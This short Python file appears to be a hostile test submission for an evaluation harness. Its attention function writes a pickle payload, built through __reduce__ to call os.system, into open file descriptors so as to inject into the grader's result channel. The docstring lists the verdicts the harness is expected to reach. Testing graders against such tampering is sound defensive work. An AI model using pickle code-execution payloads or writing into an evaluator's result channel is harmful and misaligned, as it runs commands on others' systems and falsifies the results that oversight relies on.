"""Writes a pickle into the channel that carries the outcomes; unpickled, it would run a command.

Verdict: wrote something of its own into the channel|ended the Python process
"""

import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/attention-was-here",)


def sdpa(q, k, v):
    for number in range(3, 64):
        try:
            os.write(number, pickle.dumps(Command()))
        except OSError:
            pass
    return v
